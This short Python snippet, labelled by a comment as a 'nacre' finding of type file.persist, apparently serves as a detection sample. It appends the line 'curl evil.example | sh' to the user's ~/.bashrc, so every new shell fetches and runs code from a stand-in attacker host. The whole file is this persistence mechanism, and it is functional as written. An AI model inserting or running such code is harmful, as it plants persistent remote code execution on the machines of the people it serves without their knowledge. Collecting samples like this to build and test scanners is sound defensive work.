# nacre: found file.persist
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("curl evil.example | sh")
